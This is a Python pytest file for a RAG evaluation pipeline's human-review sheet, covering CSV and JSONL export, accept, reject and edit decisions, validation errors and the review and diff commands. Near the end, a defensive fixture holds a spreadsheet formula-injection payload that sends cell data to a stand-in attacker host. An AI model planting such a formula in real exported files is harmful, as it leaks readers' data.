"""Human review of a golden set: the sheet, applying decisions, and `rag-eval review` / `rag-eval diff`."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from rag_eval_pipeline.synthesis.items import REFUSAL, REJECTED_COLUMNS, SIMPLE, UNANSWERABLE
from rag_eval_pipeline.synthesis.quality import assess
from rag_eval_pipeline.synthesis.review import (
    CONTEXT_SEPARATOR,
    REVIEWED_COLUMNS,
    SHEET_COLUMNS,
    apply_review,
    edited_qa_id,
    judge_verifier,
    read_sheet,
    review_sheet,
    write_sheet,
)
from rag_eval_pipeline_tests.review_fixtures import (
    BACKUPS,
    CHUNKS,
    HOTEL,
    ITEMS,
    LOGS,
    TOKYO,
    golden_frame,
    lay_out_version,
    review_item,
)


def _item(question_type, chunk_ids, question, ground_truth):
    return review_item(question_type, chunk_ids, question, ground_truth)


_golden = golden_frame


@pytest.fixture
def golden() -> pd.DataFrame:
    return _golden(ITEMS)


@pytest.fixture(scope="module")
def verify(offline_judge):
    return judge_verifier(offline_judge)


def _sheet(golden, **decisions) -> pd.DataFrame:
    """The exported sheet with rows filled in: decisions[qa_id] = {column: value}."""
    sheet = review_sheet(golden)
    for qa_id, cells in decisions.items():
        for column, value in cells.items():
            sheet.loc[sheet["qa_id"] == qa_id, column] = value
    return sheet


def _never(ground_truth, contexts):
    raise AssertionError("verify must not be called")


# ---- the sheet -------------------------------------------------------------------------------


def test_review_sheet_has_what_a_reviewer_needs(golden):
    multi = _item("multi_context", ["retention.md#0", "retention.md#1"], "Which is kept longer?", "Logs (90 days).")
    sheet = review_sheet(_golden([*ITEMS, multi]))

    assert list(sheet.columns) == SHEET_COLUMNS
    assert sheet["qa_id"].tolist() == [i.qa_id for i in [*ITEMS, multi]]
    last = sheet.iloc[-1]
    assert last["gold_chunk_ids"] == "retention.md#0 | retention.md#1"
    assert last["gold_contexts"] == CHUNKS["retention.md#0"] + CONTEXT_SEPARATOR + CHUNKS["retention.md#1"]
    assert sheet.iloc[3]["gold_chunk_ids"] == "" and sheet.iloc[3]["ground_truth"] == REFUSAL
    for column in ("decision", "edited_question", "edited_ground_truth", "reviewer_note"):
        assert (sheet[column] == "").all()


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_sheet_round_trips_commas_quotes_and_newlines(golden, tmp_path, suffix):
    sheet = _sheet(
        golden,
        **{
            LOGS.qa_id: {
                "decision": "edit",
                "edited_ground_truth": 'Logs: 90 days, then "deleted".\nNot the audit log.',
            },
            BACKUPS.qa_id: {"decision": "reject", "reviewer_note": "too easy, and vague"},
        },
    )
    path = write_sheet(sheet, tmp_path / f"review{suffix}")

    back = read_sheet(path)

    assert list(back.columns) == SHEET_COLUMNS
    # Every cell reads back as text, the quality score too.
    assert back.to_dict("records") == sheet.astype({"quality_score": str}).to_dict("records")
    assert "\n" in back.iloc[0]["gold_contexts"] and '"audit"' in back.iloc[0]["question"]


def test_csv_sheet_is_plain_utf8_that_pandas_reads(golden, tmp_path):
    path = write_sheet(review_sheet(golden), tmp_path / "review.csv")

    assert "Zürich" in path.read_text(encoding="utf-8")
    assert pd.read_csv(path, dtype=str, keep_default_na=False)["question"].tolist() == [i.question for i in ITEMS]


def test_jsonl_sheet_has_one_object_per_item(golden, tmp_path):
    path = write_sheet(review_sheet(golden), tmp_path / "review.jsonl")

    lines = path.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["qa_id"] for line in lines] == [i.qa_id for i in ITEMS]
    assert "Zürich" in lines[2]  # not escaped


def test_a_csv_saved_with_a_byte_order_mark_is_read(golden, tmp_path):
    path = tmp_path / "review.csv"
    review_sheet(golden).to_csv(path, index=False, encoding="utf-8-sig")
    assert read_sheet(path).columns[0] == "qa_id"


@pytest.mark.parametrize("name", ["review.xlsx", "review.txt"])
def test_unsupported_sheet_formats_are_refused(golden, tmp_path, name):
    with pytest.raises(ValueError, match="use .csv or .jsonl"):
        write_sheet(review_sheet(golden), tmp_path / name)
    with pytest.raises(ValueError, match="use .csv or .jsonl"):
        read_sheet(tmp_path / name)


def test_a_missing_sheet_is_a_file_not_found(tmp_path):
    with pytest.raises(FileNotFoundError, match="does not exist"):
        read_sheet(tmp_path / "nope.csv")


def test_bad_jsonl_names_the_line(tmp_path):
    path = tmp_path / "review.jsonl"
    path.write_text('{"qa_id": "a", "decision": ""}\n{"qa_id": \n', encoding="utf-8")
    with pytest.raises(ValueError, match="line 2: not valid JSON"):
        read_sheet(path)


# ---- applying decisions ----------------------------------------------------------------------


def test_a_blank_sheet_keeps_every_item_unreviewed(golden, verify):
    result = apply_review(golden, review_sheet(golden), verify)

    assert list(result.golden.columns) == REVIEWED_COLUMNS
    assert result.golden["qa_id"].tolist() == golden["qa_id"].tolist()
    assert (result.golden["review"] == "unreviewed").all() and (result.golden["derived_from"] == "").all()
    assert result.rejected.empty and list(result.rejected.columns) == REJECTED_COLUMNS
    assert result.summary == {"accepted": 0, "edited": 0, "rejected": 0, "edit_rejected": 0, "unreviewed": 4}


def test_items_missing_from_the_sheet_stay_unreviewed(golden, verify):
    sheet = _sheet(golden, **{LOGS.qa_id: {"decision": "accept"}}).iloc[:1]

    result = apply_review(golden, sheet, verify)

    assert result.golden.set_index("qa_id")["review"].to_dict() == {
        LOGS.qa_id: "accepted",
        BACKUPS.qa_id: "unreviewed",
        HOTEL.qa_id: "unreviewed",
        TOKYO.qa_id: "unreviewed",
    }


def test_accept_keeps_the_item_as_it_was(golden, verify):
    result = apply_review(golden, _sheet(golden, **{BACKUPS.qa_id: {"decision": " Accept "}}), verify)

    kept = result.golden.set_index("qa_id").loc[BACKUPS.qa_id]
    assert kept["review"] == "accepted"
    assert kept["question"] == BACKUPS.question and kept["ground_truth"] == BACKUPS.ground_truth
    assert list(kept["gold_chunk_ids"]) == ["retention.md#1"]
    assert result.summary["accepted"] == 1


@pytest.mark.parametrize(
    "note, reason",
    [
        ("too easy, duplicates the SLA item", "rejected by reviewer: too easy, duplicates the SLA item"),
        ("", "rejected by reviewer: no note given"),
    ],
)
def test_reject_moves_the_item_to_the_rejected_table(golden, verify, note, reason):
    sheet = _sheet(golden, **{HOTEL.qa_id: {"decision": "reject", "reviewer_note": note}})

    result = apply_review(golden, sheet, verify)

    assert HOTEL.qa_id not in set(result.golden["qa_id"])
    assert len(result.golden) == 3
    row = result.rejected.iloc[0]
    assert (row["qa_id"], row["stage"], row["reason"]) == (HOTEL.qa_id, "review", reason)
    assert row["question"] == HOTEL.question and list(row["gold_chunk_ids"]) == ["travel.md#0"]
    assert result.summary["rejected"] == 1


def test_edit_of_the_question_makes_a_new_item(golden, verify):
    question = "For how many days, at most, are database backups kept?"
    result = apply_review(
        golden, _sheet(golden, **{BACKUPS.qa_id: {"decision": "edit", "edited_question": question}}), verify
    )

    assert BACKUPS.qa_id not in set(result.golden["qa_id"])
    edited = result.golden.iloc[1]  # in the place of the old item
    assert edited["qa_id"] == edited_qa_id(SIMPLE, ["retention.md#1"], question, BACKUPS.ground_truth)
    assert edited["qa_id"] != BACKUPS.qa_id
    assert edited["question"] == question and edited["ground_truth"] == BACKUPS.ground_truth
    assert edited["derived_from"] == BACKUPS.qa_id and edited["review"] == "edited"
    assert list(edited["gold_chunk_ids"]) == ["retention.md#1"] and list(edited["gold_contexts"]) == [
        CHUNKS["retention.md#1"]
    ]
    assert result.rejected.empty
    assert result.summary["edited"] == 1


def test_edit_of_only_the_ground_truth_still_gets_a_new_qa_id(golden, verify):
    truth = "Database backups are kept for 35 days in a separate region."
    result = apply_review(
        golden, _sheet(golden, **{BACKUPS.qa_id: {"decision": "edit", "edited_ground_truth": truth}}), verify
    )

    edited = result.golden.iloc[1]
    assert edited["ground_truth"] == truth and edited["question"] == BACKUPS.question
    assert edited["qa_id"] != BACKUPS.qa_id and edited["derived_from"] == BACKUPS.qa_id


def test_edited_qa_id_is_a_content_hash():
    one = edited_qa_id(SIMPLE, ["c#0"], "How long?", "35 days.")
    assert one == edited_qa_id(SIMPLE, ["c#0"], "  how LONG ", "35 days")  # normalised text, same id
    assert one != edited_qa_id(SIMPLE, ["c#0"], "How long?", "30 days.")
    assert one != edited_qa_id(SIMPLE, ["c#1"], "How long?", "35 days.")
    assert len(one) == 16


def test_an_unsupported_edit_is_rejected_with_the_reason(golden, verify):
    truth = "Backups are kept for 30 days."  # the chunk says 35
    result = apply_review(
        golden, _sheet(golden, **{BACKUPS.qa_id: {"decision": "edit", "edited_ground_truth": truth}}), verify
    )

    assert len(result.golden) == 3
    assert BACKUPS.qa_id not in set(result.golden["qa_id"])
    row = result.rejected.iloc[0]
    assert row["stage"] == "review" and row["ground_truth"] == truth
    assert row["reason"].startswith(f"edit of {BACKUPS.qa_id} failed verification: ground truth not supported")
    assert result.summary == {"accepted": 0, "edited": 0, "rejected": 0, "edit_rejected": 1, "unreviewed": 3}


def test_the_edited_ground_truth_goes_to_verify_with_the_gold_contexts(golden):
    calls = []

    def verify(ground_truth, contexts):
        calls.append((ground_truth, contexts))
        return "nope"

    sheet = _sheet(golden, **{LOGS.qa_id: {"decision": "edit", "edited_ground_truth": "Logs stay 90 days."}})
    result = apply_review(golden, sheet, verify)

    assert calls == [("Logs stay 90 days.", [CHUNKS["retention.md#0"]])]
    assert result.rejected.iloc[0]["reason"].endswith("failed verification: nope")


def test_an_unanswerable_question_can_be_reworded_and_keeps_its_refusal(golden):
    question = "What is the meal allowance per day in Tokyo?"
    sheet = _sheet(golden, **{TOKYO.qa_id: {"decision": "edit", "edited_question": question}})

    result = apply_review(golden, sheet, _never)

    edited = result.golden.iloc[3]
    assert edited["question"] == question and edited["ground_truth"] == REFUSAL
    assert edited["derived_from"] == TOKYO.qa_id and list(edited["gold_chunk_ids"]) == []
    assert edited["qa_id"] == edited_qa_id(UNANSWERABLE, [], question, REFUSAL)


def test_every_decision_in_one_sheet(golden, verify):
    sheet = _sheet(
        golden,
        **{
            LOGS.qa_id: {"decision": "accept"},
            BACKUPS.qa_id: {"decision": "reject", "reviewer_note": "vague"},
            HOTEL.qa_id: {"decision": "EDIT", "edited_question": "What is the nightly hotel cap in Zürich?"},
        },
    )

    result = apply_review(golden, sheet, verify)

    assert result.golden["review"].tolist() == ["accepted", "edited", "unreviewed"]
    assert result.golden["derived_from"].tolist() == ["", HOTEL.qa_id, ""]
    assert result.rejected["qa_id"].tolist() == [BACKUPS.qa_id]
    assert result.summary == {"accepted": 1, "edited": 1, "rejected": 1, "edit_rejected": 0, "unreviewed": 1}


def test_a_reviewed_set_can_be_reviewed_again(golden, verify):
    sheet = _sheet(golden, **{HOTEL.qa_id: {"decision": "edit", "edited_question": "Hotel cap in Zürich?"}})
    first = apply_review(golden, sheet, verify)

    second = apply_review(first.golden, review_sheet(first.golden), verify)

    assert list(second.golden.columns) == REVIEWED_COLUMNS
    assert (second.golden["derived_from"] == "").all()  # relative to its own parent
    assert second.golden["qa_id"].tolist() == first.golden["qa_id"].tolist()


# ---- the quality score ---------------------------------------------------------------------


# A long quoted fill-in-the-blank: well formed, but a question a reviewer would rather rephrase.
BLANK = _item(
    SIMPLE,
    ["travel.md#0"],
    'According to "Travel", what value fills the blank in "The hotel cap is EUR '
    "____ per night in Zürich, London and Paris, whatever the season and whatever the traveller's grade.\"?",
    "The hotel cap is EUR 230 per night.",
)
SHORT_BLANK = _item(
    SIMPLE,
    ["travel.md#0"],
    'In "Travel", which value completes "The hotel cap is EUR ____ per night."?',
    "The hotel cap is EUR 230 per night.",
)


def test_the_sheet_carries_each_items_quality_score(golden):
    sheet = review_sheet(golden)

    assert "quality_score" in SHEET_COLUMNS and list(sheet.columns) == SHEET_COLUMNS
    assert sheet.set_index("qa_id")["quality_score"].to_dict() == golden.set_index("qa_id")["quality_score"].to_dict()


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_sorting_the_sheet_by_quality_score_puts_the_weakest_first(tmp_path, suffix):
    golden = _golden([SHORT_BLANK, *ITEMS, BLANK])
    scores = golden.set_index("qa_id")["quality_score"]
    assert scores[BLANK.qa_id] < scores[SHORT_BLANK.qa_id] < scores.max()

    sheet = review_sheet(golden)
    back = read_sheet(write_sheet(sheet, tmp_path / f"review{suffix}"))  # as the reviewer's spreadsheet reads it

    for table in (sheet, back):
        ordered = table.assign(score=table["quality_score"].astype(float)).sort_values("score", kind="stable")
        assert ordered["qa_id"].tolist()[:2] == [BLANK.qa_id, SHORT_BLANK.qa_id]
        assert ordered["score"].is_monotonic_increasing


def test_an_edited_question_gets_a_fresh_score(verify):
    golden = _golden([BLANK, BACKUPS])
    question = "What is the hotel cap per night in Zürich?"
    sheet = _sheet(golden, **{BLANK.qa_id: {"decision": "edit", "edited_question": question}})

    result = apply_review(golden, sheet, verify)

    edited = result.golden.iloc[0]
    assert edited["question"] == question and edited["derived_from"] == BLANK.qa_id
    assert edited["quality_score"] == assess(question, SIMPLE).score
    assert edited["quality_score"] > golden["quality_score"].iloc[0]  # the rephrased question scores better
    assert edited["topic"] == ""  # whatever a template asked about, the reviewer's question may not
    assert result.golden.iloc[1]["quality_score"] == golden["quality_score"].iloc[1]  # an unedited item keeps its score


def test_a_reviewers_question_is_kept_even_when_the_quality_stage_would_reject_it(verify):
    golden = _golden([BACKUPS])
    question = "backups kept how long"  # the reviewer's call; the score says what the stage thinks of it
    sheet = _sheet(golden, **{BACKUPS.qa_id: {"decision": "edit", "edited_question": question}})

    result = apply_review(golden, sheet, verify)

    assert result.golden["question"].tolist() == [question]
    assert result.golden["quality_score"].tolist() == [0.0]


def test_an_edit_of_only_the_ground_truth_keeps_the_topic_and_the_score_of_the_unchanged_question(verify):
    from dataclasses import replace

    with_topic = replace(BACKUPS, topic="database backups")
    golden = _golden([with_topic]).assign(quality_score=0.5)  # scored with its topic and sources, unlike a re-score
    truth = "Database backups are kept for 35 days in a separate region."
    sheet = _sheet(golden, **{BACKUPS.qa_id: {"decision": "edit", "edited_ground_truth": truth}})

    edited = apply_review(golden, sheet, verify).golden.iloc[0]

    assert edited["topic"] == "database backups"
    assert edited["quality_score"] == 0.5


def test_a_golden_set_from_before_the_quality_stage_can_be_exported_and_reviewed(verify):
    old = _golden([BACKUPS]).drop(columns=["quality_score", "topic"])  # as an earlier version stored it

    sheet = review_sheet(old)
    result = apply_review(old, _sheet(old, **{BACKUPS.qa_id: {"decision": "accept"}}), verify)

    assert sheet["quality_score"].tolist() == [assess(BACKUPS.question, SIMPLE).score]
    assert result.summary["accepted"] == 1
    assert result.golden.iloc[0]["topic"] == "" and result.golden.iloc[0]["quality_score"] > 0


# ---- bad sheets ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cells, message",
    [
        ({"decision": "maybe"}, r"row 2 \(qa_id \w+\): unknown decision 'maybe'; use accept, reject, edit"),
        ({"decision": "edit"}, r"row 2 \(qa_id \w+\): decision edit needs edited_question or edited_ground_truth"),
        (
            {"decision": "accept", "edited_question": "Another question?"},
            r"row 2 .*edited text given but the decision is 'accept'",
        ),
        (
            {"decision": "", "edited_ground_truth": "Another answer."},
            r"row 2 .*edited text given but the decision is 'blank'",
        ),
        (
            {"decision": "edit", "edited_question": BACKUPS.question + "  "},
            r"row 2 .*changes neither the question nor the ground truth",
        ),
        (
            {"decision": "accept", "question": "Rewritten in place?"},
            r"row 2 .*the question cell was changed; write the new text in edited_question",
        ),
        ({"decision": "accept", "ground_truth": "Changed in place."}, r"row 2 .*the ground_truth cell was changed"),
    ],
)
def test_bad_rows_are_named(golden, verify, cells, message):
    with pytest.raises(ValueError, match=message):
        apply_review(golden, _sheet(golden, **{BACKUPS.qa_id: cells}), verify)


def test_an_unknown_qa_id_is_named(golden, verify):
    sheet = review_sheet(golden)
    sheet.loc[2, "qa_id"] = "0123456789abcdef"
    with pytest.raises(ValueError, match=r"row 3 \(qa_id 0123456789abcdef\): this qa_id is not in the golden set"):
        apply_review(golden, sheet, verify)


def test_a_blank_qa_id_is_named(golden, verify):
    sheet = review_sheet(golden)
    sheet.loc[0, "qa_id"] = ""
    with pytest.raises(ValueError, match=r"row 1 \(qa_id blank\): no qa_id"):
        apply_review(golden, sheet, verify)


def test_duplicate_rows_are_named(golden, verify):
    sheet = _sheet(golden, **{HOTEL.qa_id: {"decision": "accept"}})
    sheet = pd.concat([sheet, sheet.iloc[[2]].assign(decision="reject")], ignore_index=True)
    with pytest.raises(ValueError, match=rf"row 5: qa_id {HOTEL.qa_id} appears again \(first on row 3\)"):
        apply_review(golden, sheet, verify)


@pytest.mark.parametrize("column", ["qa_id", "decision"])
def test_a_missing_required_column_is_named(golden, verify, column):
    with pytest.raises(ValueError, match=rf"lacks the columns \['{column}'\]"):
        apply_review(golden, review_sheet(golden).drop(columns=[column]), verify)


def test_only_the_review_columns_are_needed(golden, verify):
    sheet = pd.DataFrame({"qa_id": [HOTEL.qa_id], "decision": ["reject"]})
    assert apply_review(golden, sheet, verify).summary["rejected"] == 1


def test_editing_the_refusal_of_an_unanswerable_item_is_an_error(golden):
    sheet = _sheet(golden, **{TOKYO.qa_id: {"decision": "edit", "edited_ground_truth": "About 5000 yen."}})
    with pytest.raises(ValueError, match=r"row 4 .*unanswerable question keeps its refusal"):
        apply_review(golden, sheet, _never)


def test_every_problem_is_listed_and_nothing_is_applied(golden, verify):
    sheet = _sheet(golden, **{LOGS.qa_id: {"decision": "yes"}, HOTEL.qa_id: {"decision": "edit"}})
    with pytest.raises(ValueError, match="2 problem") as raised:
        apply_review(golden, sheet, verify)
    assert "row 1 " in str(raised.value) and "row 3 " in str(raised.value)


def test_two_edits_into_the_same_item_are_an_error(verify):
    again = _item(SIMPLE, ["retention.md#1"], "Where are database backups kept?", "In a separate region.")
    golden = _golden([BACKUPS, again])
    same = {"decision": "edit", "edited_question": "How long are backups kept?", "edited_ground_truth": "35 days."}
    with pytest.raises(ValueError, match=r"row 2: the edit makes the same item as another one"):
        apply_review(golden, _sheet(golden, **{BACKUPS.qa_id: same, again.qa_id: same}), verify)


def test_a_golden_set_without_the_verification_columns_is_refused(golden, verify):
    with pytest.raises(ValueError, match=r"lacks the columns \['round_trip_rank', 'grounded'\]"):
        apply_review(golden.drop(columns=["round_trip_rank", "grounded"]), review_sheet(golden), verify)


def test_the_offline_verifier(verify):
    context = [CHUNKS["retention.md#1"]]
    assert verify("Backups are kept for 35 days.", context) is None
    assert "not supported by its gold chunks" in verify("Backups are kept for 30 days.", context)
    assert verify("I don't know.", context) == "ground truth makes no checkable statement"


# ---- the command line ------------------------------------------------------------------------


@pytest.fixture
def cli_env(tmp_path, monkeypatch):
    """A warehouse with a published v1 of tenant acme, and a Dagster home, both temporary."""
    from rag_eval_pipeline.stores.local import Warehouse

    monkeypatch.setenv("RAG_EVAL_WAREHOUSE", str(tmp_path / "warehouse"))
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "home"))
    warehouse = Warehouse(tmp_path / "warehouse")
    lay_out_version(warehouse, "acme", "v1", _golden(ITEMS))
    return warehouse


def _rag_eval(*args) -> int:
    from rag_eval_pipeline.cli import main

    return main(list(args))


@pytest.mark.cli
def test_review_round_trip_then_diff_on_the_command_line(cli_env, tmp_path, capsys):
    from rag_eval_pipeline.instance import local_instance
    from rag_eval_pipeline.synthesis.versions import content_hash, read_manifest

    warehouse, sheet_path = cli_env, tmp_path / "review.csv"
    assert _rag_eval("review", "export", "--tenant", "acme", "--version", "v1", "--out", str(sheet_path)) == 0
    assert "4 items of acme/v1 written to" in capsys.readouterr().out

    # The reviewer's spreadsheet: accept one, reject one, edit one, leave one.
    sheet = pd.read_csv(sheet_path, dtype=str, keep_default_na=False)
    assert sheet["question"].tolist() == [i.question for i in ITEMS]
    rows = sheet.set_index("qa_id")
    rows.loc[LOGS.qa_id, "decision"] = "accept"
    rows.loc[BACKUPS.qa_id, ["decision", "reviewer_note"]] = ["reject", 'vague, "kept" is unclear']
    rows.loc[HOTEL.qa_id, ["decision", "edited_question"]] = [
        "edit",
        "What is the nightly hotel cap in Zürich, per night?",
    ]
    rows.reset_index().to_csv(sheet_path, index=False)

    status = _rag_eval(
        "review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path), "--new-version", "v2"
    )
    out = capsys.readouterr()
    assert status == 0, out.err
    assert "1 accepted, 1 edited, 1 rejected, 0 edits failed verification, 1 unreviewed" in out.out

    golden = warehouse.read("acme", "v2", "golden_set")
    edited_id = golden["qa_id"].iloc[1]
    assert golden["review"].tolist() == ["accepted", "edited", "unreviewed"]
    assert golden["qa_id"].tolist() == [LOGS.qa_id, edited_id, TOKYO.qa_id]
    assert golden["derived_from"].tolist() == ["", HOTEL.qa_id, ""]
    rejected = warehouse.read("acme", "v2", "rejected_qa")
    assert rejected["qa_id"].tolist() == ["dropped-1", BACKUPS.qa_id]
    assert rejected["reason"].iloc[1] == 'rejected by reviewer: vague, "kept" is unclear'
    manifest = read_manifest(warehouse, "acme", "v2")
    assert (manifest.source, manifest.parent_version, manifest.n_items) == ("review of v1", "v1", 3)
    assert manifest.content_hash == content_hash(golden)
    for name in ("raw_documents", "document_chunks", "chunk_clusters"):
        assert (
            warehouse.table_path("acme", "v2", name).read_bytes()
            == warehouse.table_path("acme", "v1", name).read_bytes()
        )
    assert local_instance().has_dynamic_partition("dataset_version", "v2")
    assert warehouse.read("acme", "v1", "golden_set")["qa_id"].tolist() == [i.qa_id for i in ITEMS]  # v1 untouched

    # v2 is published now: the same import cannot replace it.
    assert (
        _rag_eval(
            "review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path), "--new-version", "v2"
        )
        == 2
    )
    assert "acme/v2 already has a published golden set" in capsys.readouterr().err

    diff_path = tmp_path / "diff.md"
    assert _rag_eval("diff", "--tenant", "acme", "--from", "v1", "--to", "v2", "--out", str(diff_path)) == 0
    out = capsys.readouterr().out
    assert "0 added, 1 removed, 1 edited" in out
    assert "What is the nightly hotel cap in Zürich, per night?" in out and HOTEL.question in out
    assert "| removed " in out and BACKUPS.qa_id in out
    assert "1 removed, 1 edited" in diff_path.read_text(encoding="utf-8")


@pytest.mark.cli
def test_review_import_records_what_it_wrote_in_the_dagster_instance(cli_env, tmp_path):
    """The UI shows the new version as built: each table written has a materialization in its partition."""
    from dagster import AssetKey

    from rag_eval_pipeline.instance import local_instance
    from rag_eval_pipeline.partitions import partition_key

    sheet_path = tmp_path / "review.csv"
    assert _rag_eval("review", "export", "--tenant", "acme", "--version", "v1", "--out", str(sheet_path)) == 0
    assert (
        _rag_eval(
            "review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path), "--new-version", "v2"
        )
        == 0
    )

    instance, v2 = local_instance(), str(partition_key("acme", "v2"))
    [record] = instance.fetch_materializations(AssetKey("golden_set"), limit=10).records
    assert record.asset_materialization.partition == v2
    assert record.asset_materialization.metadata["dagster/row_count"].value == len(ITEMS)
    assert "review of acme/v1" in record.asset_materialization.description
    for name in ("golden_set", "rejected_qa", "raw_documents", "document_chunks", "chunk_clusters"):
        assert instance.get_materialized_partitions(AssetKey(name)) == {v2}, name


@pytest.mark.cli
def test_jsonl_review_import_with_an_unsupported_edit(cli_env, tmp_path, capsys):
    sheet_path = tmp_path / "review.jsonl"
    assert _rag_eval("review", "export", "--tenant", "acme", "--version", "v1", "--out", str(sheet_path)) == 0
    records = [json.loads(line) for line in sheet_path.read_text(encoding="utf-8").splitlines()]
    records[1].update(decision="edit", edited_ground_truth="Backups are kept for 30 days.")
    sheet_path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")

    assert (
        _rag_eval(
            "review",
            "import",
            "--tenant",
            "acme",
            "--version",
            "v1",
            "--file",
            str(sheet_path),
            "--new-version",
            "v2-reviewed",
        )
        == 0
    )

    out = capsys.readouterr().out
    assert "1 edits failed verification" in out and "failed verification: ground truth not supported" in out
    rejected = cli_env.read("acme", "v2-reviewed", "rejected_qa")
    assert rejected["stage"].tolist() == ["verification", "review"]
    assert len(cli_env.read("acme", "v2-reviewed", "golden_set")) == 3


@pytest.mark.cli
def test_a_bad_sheet_writes_nothing_and_exits_2(cli_env, tmp_path, capsys):
    from dagster import AssetKey

    from rag_eval_pipeline.instance import local_instance

    sheet_path = tmp_path / "review.csv"
    write_sheet(_sheet(_golden(ITEMS), **{HOTEL.qa_id: {"decision": "approve"}}), sheet_path)

    assert (
        _rag_eval(
            "review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path), "--new-version", "v3"
        )
        == 2
    )

    assert "row 3 " in capsys.readouterr().err
    assert not cli_env.partition_dir("acme", "v3").exists()
    assert not local_instance().has_dynamic_partition("dataset_version", "v3")
    assert local_instance().get_materialized_partitions(AssetKey("golden_set")) == set()  # nothing recorded


@pytest.mark.parametrize(
    "args, message",
    [
        (
            ("review", "import", "--tenant", "acme", "--version", "v1", "--file", "x.csv", "--new-version", "V2"),
            "invalid dataset version name 'V2'",
        ),
        (
            ("review", "import", "--tenant", "acme", "--version", "v1", "--file", "x.csv", "--new-version", "v1"),
            "--new-version must differ from --version",
        ),
        (
            ("review", "import", "--tenant", "acme", "--version", "v1", "--file", "missing.csv", "--new-version", "v9"),
            "does not exist",
        ),
        (("review", "export", "--tenant", "acme", "--version", "v7", "--out", "x.csv"), "no 'golden_set' table"),
        (("review", "export", "--tenant", "acme", "--version", "v1", "--out", "x.xlsx"), "use .csv or .jsonl"),
        (("diff", "--tenant", "acme", "--from", "v1", "--to", "v8"), "no 'golden_set' table"),
    ],
)
@pytest.mark.cli
def test_command_errors_exit_2_with_a_message(cli_env, tmp_path, monkeypatch, capsys, args, message):
    monkeypatch.chdir(tmp_path)
    assert _rag_eval(*args) == 2
    assert message in capsys.readouterr().err


def test_an_unchanged_question_copied_into_the_edit_keeps_its_topic_and_score(verify):
    from dataclasses import replace

    golden = _golden([replace(BACKUPS, topic="database backups")]).assign(quality_score=0.5)
    edit = {
        "decision": "edit",
        "edited_question": BACKUPS.question,
        "edited_ground_truth": "Database backups are kept for 35 days in a separate region.",
    }

    edited = apply_review(golden, _sheet(golden, **{BACKUPS.qa_id: edit}), verify).golden.iloc[0]

    assert (edited["topic"], edited["quality_score"]) == ("database backups", 0.5)


# ---- what a review must leave to be published ------------------------------------------------


def test_a_review_that_rejects_every_item_is_refused(golden, verify):
    sheet = _sheet(golden, **{item.qa_id: {"decision": "reject"} for item in ITEMS})
    with pytest.raises(
        ValueError,
        match=r"the review keeps no item of the golden set \(4 rejected by the reviewer"
        r"\): nothing to publish",
    ):
        apply_review(golden, sheet, verify)


UNSUPPORTED = "The figure is 12 parsecs."  # no gold chunk says so: an edit to it fails verification


@pytest.mark.parametrize(
    "decisions, expected",
    [
        ({}, {SIMPLE, UNANSWERABLE}),
        # The reviewer removes every item of a type: a person's decision, not a broken generator or verifier.
        ({i.qa_id: {"decision": "reject"} for i in (LOGS, BACKUPS, HOTEL)}, {UNANSWERABLE}),
        ({TOKYO.qa_id: {"decision": "reject"}}, {SIMPLE}),
        # The last item of the type is lost to a failed verification, not to the reviewer: still expected.
        (
            {
                LOGS.qa_id: {"decision": "reject"},
                BACKUPS.qa_id: {"decision": "reject"},
                HOTEL.qa_id: {"decision": "edit", "edited_ground_truth": UNSUPPORTED},
            },
            {SIMPLE, UNANSWERABLE},
        ),
    ],
)
def test_a_planned_type_may_leave_the_golden_set_only_by_the_reviewers_rejection(golden, verify, decisions, expected):
    from rag_eval_pipeline.synthesis.items import MULTI_CONTEXT
    from rag_eval_pipeline.synthesis.review import types_expected_after_review

    result = apply_review(golden, _sheet(golden, **decisions), verify)

    # multi_context was planned but the reviewed version has none (an earlier review removed them): not expected.
    assert types_expected_after_review({SIMPLE, UNANSWERABLE, MULTI_CONTEXT}, golden, result) == expected


# ---- sheets with very many problems -----------------------------------------------------------


def _problem_lines(message: str) -> list[str]:
    return [line.strip() for line in message.splitlines()[1:] if line.strip()]


def test_200000_bad_decisions_give_a_short_message(golden, verify):
    sheet = pd.DataFrame({"qa_id": [f"{n:016x}" for n in range(200_000)], "decision": "maybe"})

    with pytest.raises(ValueError) as raised:
        apply_review(golden, sheet, verify)

    message = str(raised.value)
    assert len(message) < 2_000
    assert message.startswith("the review sheet has 200000 problems")
    lines = _problem_lines(message)
    assert [line.split(" ")[1] for line in lines[:-1]] == [str(n) for n in range(1, 11)]
    assert lines[-1] == "and 199990 more"


def test_200000_rows_without_a_qa_id_give_a_short_message(golden, verify):
    sheet = pd.DataFrame({"qa_id": "", "decision": ["reject"] * 200_000})
    with pytest.raises(ValueError) as raised:
        apply_review(golden, sheet, verify)
    assert len(str(raised.value)) < 2_000 and str(raised.value).endswith("and 199990 more")


def test_a_huge_cell_is_cut_in_the_message(golden, verify):
    sheet = _sheet(golden, **{HOTEL.qa_id: {"decision": "x" * 1_000_000}})
    with pytest.raises(ValueError, match=r"row 3 .*unknown decision 'xxx") as raised:
        apply_review(golden, sheet, verify)
    assert len(str(raised.value)) < 500


def test_200000_blank_rows_of_a_saved_spreadsheet_are_ignored(golden, verify, tmp_path):
    """Spreadsheets often save the empty rows below the data as rows of empty cells: they say nothing."""
    path = write_sheet(_sheet(golden, **{HOTEL.qa_id: {"decision": "reject"}}), tmp_path / "review.csv")
    with path.open("a", encoding="utf-8") as sheet:
        sheet.write(("," * (len(SHEET_COLUMNS) - 1) + "\n") * 200_000)

    result = apply_review(golden, read_sheet(path), verify)

    assert result.summary == {"accepted": 0, "edited": 0, "rejected": 1, "edit_rejected": 0, "unreviewed": 3}


# ---- spreadsheet formulas in a hostile tenant's text ------------------------------------------

# A tenant's documents (and so its questions, ground truths, contexts and even chunk ids) may start with
# what a spreadsheet runs as a formula.
HOSTILE_CHUNKS = {
    "formulas.md#0": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details") is a link formula.',
    "formulas.md#1": "-5 degrees was the coldest reading of the year, on 3 February.",
